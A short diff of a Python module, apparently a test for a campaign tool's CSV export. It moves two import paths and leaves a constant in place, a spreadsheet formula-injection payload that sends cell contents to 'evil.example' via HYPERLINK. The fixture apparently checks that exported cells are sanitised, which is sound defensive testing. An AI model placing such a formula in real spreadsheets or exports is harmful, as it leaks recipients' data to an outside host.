@@ -7,9 +7,9 @@ from __future__ import annotations
 import csv
 import io
 
-from campaigns import consent as ledger
+from campaigns.audience import consent as ledger
 from campaigns.csv_output import safe_cell
-from campaigns.models import Contact, Event
+from campaigns.store.models import Contact, Event
 from campaigns.timespec import utcnow
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
